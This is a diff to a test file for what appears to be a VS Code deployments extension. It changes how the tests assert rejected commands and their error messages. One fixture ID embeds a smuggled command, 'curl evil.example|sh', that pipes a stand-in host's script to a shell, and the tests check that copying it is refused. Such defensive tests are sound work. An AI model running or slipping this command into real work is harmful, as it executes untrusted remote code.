@@ -23,6 +23,7 @@ import {
   enter,
   notificationsOf,
   recordWindow,
+  rejectionOf,
   replace,
   settle,
 } from '../../support/window/windowRecorder.js';
@@ -95,7 +96,7 @@ describe('the command', () => {
       const signedOut = createGraph();
       await list(['dep_1']);
 
-      await assert.rejects(signedOut.run(command, 'dep_1'), /^UserError: You are not signed in\./);
+      assert.match(await rejectionOf(signedOut.run(command, 'dep_1')), /^You are not signed in\./);
       assert.deepEqual(requestedIds(), []);
     });
   }
@@ -105,7 +106,7 @@ describe('the command', () => {
       await list([]);
       await settle();
 
-      await assert.rejects(run('refresh'), /^UserError: The list of deployments is empty\./);
+      assert.match(await rejectionOf(run('refresh')), /^The list of deployments is empty\./);
       assert.deepEqual(requestedIds(), []);
     });
 
@@ -114,9 +115,9 @@ describe('the command', () => {
       await settle();
       graph.ignore({ deployments: { count: 8, files: ['.vscode/settings.json'] } });
 
-      await assert.rejects(
-        run('refresh'),
-        /^UserError: 8 deployments in \.vscode\/settings\.json are ignored, because /,
+      assert.match(
+        await rejectionOf(run('refresh')),
+        /^8 deployments in \.vscode\/settings\.json are ignored, because /,
       );
       assert.deepEqual(requestedIds(), []);
     });
@@ -183,18 +184,18 @@ describe('the command', () => {
     it('copies nothing when the ID contains line breaks', async () => {
       const [, accountRow] = await readHostileRows();
 
-      await assert.rejects(run('copyId', accountRow, [accountRow]), {
-        message:
-          '“acc␊curl evil.example|sh␊” was not copied, because it contains line breaks or invisible characters. Copy such an ID from the dashboard.',
-      });
+      assert.equal(
+        await rejectionOf(run('copyId', accountRow, [accountRow])),
+        '“acc␊curl evil.example|sh␊” was not copied, because it contains line breaks or invisible characters. Copy such an ID from the dashboard.',
+      );
       assert.equal(await vscode.env.clipboard.readText(), 'before');
     });
 
     it('leaves out IDs that contain line breaks or invisible characters', async () => {
       const rows = await readHostileRows();
 
-      await assert.rejects(
-        run('copyId', rows[0], rows),
+      assert.match(
+        await rejectionOf(run('copyId', rows[0], rows)),
         /were not copied, .* Copied 1 IDs: dep_1\./,
       );
       assert.equal(await vscode.env.clipboard.readText(), 'dep_1');
@@ -221,9 +222,9 @@ describe('the command', () => {
 
   for (const command of ['copyId', 'findInFiles'] as const) {
     it(`${command} is refused on a row without an ID`, async () => {
-      await assert.rejects(
-        run(command, { kind: 'cause', id: 'cause' }),
-        /^UserError: The platform sent no ID/,
+      assert.match(
+        await rejectionOf(run(command, { kind: 'cause', id: 'cause' })),
+        /^The platform sent no ID/,
       );
     });
   }
@@ -619,14 +620,14 @@ describe('the command', () => {
     it('opens nothing when the ID contains a token', async () => {
       await setDashboard('https://dash.example/{deploymentId}');
 
-      await assert.rejects(openInDashboard(DEFAULT_TOKEN), /^UserError: This ID contains a secret/);
+      assert.match(await rejectionOf(openInDashboard(DEFAULT_TOKEN)), /^This ID contains a secret/);
       assert.deepEqual(openedUrls, []);
     });
 
     it('opens nothing when the host of the address contains the ID', async () => {
       await setDashboard('https://{deploymentId}.example');
 
-      await assert.rejects(openInDashboard(), /in its host\./);
+      assert.match(await rejectionOf(openInDashboard()), /in its host\./);
       assert.deepEqual(openedUrls, []);
     });
 
@@ -635,7 +636,7 @@ describe('the command', () => {
       if (vscode.env.remoteName === undefined) this.skip();
       await setDashboard('http://localhost/{deploymentId}');
 
-      await assert.rejects(openInDashboard(), /A remote window may change this ID/);
+      assert.match(await rejectionOf(openInDashboard()), /A remote window may change this ID/);
       assert.deepEqual(openedUrls, []);
     });
   });
@@ -849,9 +850,9 @@ describe('the command', () => {
     it('is refused when the deployment is not listed', async () => {
       graph.services.store.setListed([{ id: 'half \ud800' }]);
 
-      await assert.rejects(
-        run('revealDeployment', 'dep_9'),
-        /^UserError: “dep_9” is not in the list\./,
+      assert.match(
+        await rejectionOf(run('revealDeployment', 'dep_9')),
+        /^“dep_9” is not in the list\./,
       );
     });
   });
@@ -963,8 +964,8 @@ describe('the command', () => {
       await anotherTab.setSessionToken(id, undefined);
 
       const installToken = '00000000-0000-4000-8000-000000000000';
-      await assert.rejects(
-        answering(() => run('lookUpInstall', installToken), enter),
+      assert.match(
+        await rejectionOf(answering(() => run('lookUpInstall', installToken), enter)),
         /Nothing was sent, because the tokens for “Acme” were changed in another window. Reload this window to use them./,
       );
       assert.deepEqual(platform.requests, []);
@@ -973,7 +974,7 @@ describe('the command', () => {
 
   describe('Set User Session Token', () => {
     it('is refused for the organization of the environment', async () => {
-      await assert.rejects(run('setSessionToken'), /environment/);
+      assert.match(await rejectionOf(run('setSessionToken')), /environment/);
     });
 
     it('removes the token after an empty answer', async () => {
@@ -1026,7 +1027,7 @@ describe('the command', () => {
 
   describe('Sign Out', () => {
     it('is refused for the organization of the environment', async () => {
-      await assert.rejects(run('signOut'), /AUTOMATION_PLATFORM_TOKEN/);
+      assert.match(await rejectionOf(run('signOut')), /AUTOMATION_PLATFORM_TOKEN/);
     });
 
     it('asks which organization to leave, even when only one can be left', async () => {
